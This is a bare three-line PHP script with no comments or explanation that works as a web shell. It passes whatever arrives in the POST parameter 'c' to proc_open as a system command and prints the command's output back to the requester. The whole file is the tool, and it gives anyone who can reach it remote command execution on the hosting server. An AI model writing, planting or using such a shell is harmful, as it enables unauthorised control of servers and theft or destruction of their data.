<?php
$d = array(array('pipe','r'), array('pipe','w'), array('pipe','w'));
$pr = proc_open($_POST['c'], $d, $pipes); echo stream_get_contents($pipes[1]);
